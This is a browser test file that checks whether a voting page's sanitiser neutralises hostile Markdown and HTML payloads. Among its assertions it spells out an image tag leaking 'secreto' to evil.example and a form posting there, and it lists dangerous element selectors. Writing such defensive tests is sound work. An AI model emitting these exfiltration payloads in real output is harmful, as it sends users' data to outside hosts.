"""Hostile text in a real browser: each payload as an answer, a passage, a name and a comment on one page."""

import socket
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest

from space import look
from space.markdown import inert, inert_line
from tests.chromium import CHROMIUM, NO_BROWSER
from tests.hostile_payloads import PAYLOADS

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

BUTTONS = ("vote-left", "vote-right", "vote-tie", "vote-both_bad")
LIVE = (
    "img, picture, video, audio, form, iframe, object, embed, svg, script, style, link, base, meta, "
    "a[href], input, code, pre, hr, .katex, .mermaid, [style*=fixed], [style*=url], [onerror], [onload], "
    "gradio-app"
)

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=NO_BROWSER)


@dataclass(frozen=True)
class Visit:
    """A page that was opened, and the addresses elsewhere that it asked for."""

    page: "Page"
    left: list[str]


def _free_port() -> int:
    with closing(socket.socket()) as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _launch(texts: list[str], pages: list[str]) -> tuple[str, object]:
    """Serve a page with these texts as Markdown and as HTML above four vote buttons."""
    import gradio as gr

    with gr.Blocks(analytics_enabled=False) as demo:
        with gr.Column(elem_id="hostile"):
            for each in texts:
                gr.Markdown(each, elem_classes="answer")
            for each in pages:
                gr.HTML(each)
        with gr.Row(elem_id="vote-bar"):
            for each in BUTTONS:
                gr.Button(each, elem_id=each)
    where = {"server_name": "127.0.0.1", "server_port": _free_port(), "prevent_thread_lock": True}
    options = {"run_history": False, "enable_monitoring": False, "footer_links": [], "share": False}
    look_of_it = {"theme": look.theme(), "css": look.CSS, "head": look.HEAD}
    _, url, _ = demo.launch(quiet=True, ssr_mode=False, **where, **options, **look_of_it)
    return url, demo


def _visited(browser: "Browser", texts: list[str], pages: list[str]) -> Iterator[Visit]:
    """Open a page with these texts; what it asks of elsewhere is counted and goes nowhere."""
    url, demo = _launch(texts, pages)
    context = browser.new_context(viewport={"width": 390, "height": 844}, locale="es-ES")
    left: list[str] = []
    context.route(
        lambda address: not address.startswith((url, "data:", "blob:")),
        lambda route: (left.append(route.request.url), route.abort()),
    )
    page = context.new_page()
    page.goto(url)
    page.wait_for_selector("#vote-both_bad")
    page.wait_for_timeout(800)  # images, timers and refreshes would have fired
    yield Visit(page, left)
    context.close()
    demo.close(verbose=False)  # pyright: ignore[reportAttributeAccessIssue] - a gr.Blocks


@pytest.fixture(scope="module")
def cleaned(browser: "Browser") -> Iterator[Visit]:
    payloads = list(PAYLOADS.values())
    as_answers = [inert(each) for each in payloads]
    as_names = [f"**Modelo A: {inert_line(each)}** (licencia {inert_line(each)})" for each in payloads]
    as_pages = [f"<p>{inert(each)}</p>" for each in payloads] + [
        f'<p title="{inert_line(each)}">{inert_line(each)}</p>' for each in payloads
    ]
    yield from _visited(browser, as_answers + as_names, as_pages)


@pytest.fixture(scope="module")
def raw(browser: "Browser") -> Iterator[Visit]:
    yield from _visited(browser, [PAYLOADS["image"], PAYLOADS["form"], PAYLOADS["link"]], [])


def test_without_the_cleaner_such_payloads_do_fire(raw: Visit) -> None:
    """The page's own defences let an image be fetched and a form be shown, so the tests below can fail."""
    assert any("evil.example" in url for url in raw.left)
    assert raw.page.locator("#hostile").locator(LIVE).count() >= 3


def test_no_request_leaves_the_page(cleaned: Visit) -> None:
    assert len(PAYLOADS) >= 25
    assert cleaned.left == []


def test_nothing_of_a_payload_is_more_than_text(cleaned: Visit) -> None:
    found = cleaned.page.locator("#hostile").locator(LIVE)
    assert [each.evaluate("element => element.outerHTML.slice(0, 200)") for each in found.all()] == []


@pytest.mark.parametrize("button", BUTTONS)
def test_nothing_lies_over_a_vote_button(cleaned: Visit, button: str) -> None:
    cleaned.page.locator(f"#{button}").scroll_into_view_if_needed()
    assert cleaned.page.evaluate(
        "id => { const box = document.getElementById(id).getBoundingClientRect();"
        "  const points = [[.5, .5], [.05, .1], [.95, .9]];"
        "  return points.every(([x, y]) => document.getElementById(id).contains("
        "    document.elementFromPoint(box.x + x * box.width, box.y + y * box.height))) }",
        button,
    )
    assert cleaned.page.locator(f"[id='{button}']").count() == 1


def test_the_payloads_can_be_read_as_they_were_written(cleaned: Visit) -> None:
    text = cleaned.page.inner_text("#hostile")
    for part in (
        "![x](http://evil.example/a.png?q=secreto)",
        "<form action='http://evil.example'>",
        "texto[^1]",
    ):
        assert part in text
    assert "\u202e" not in text
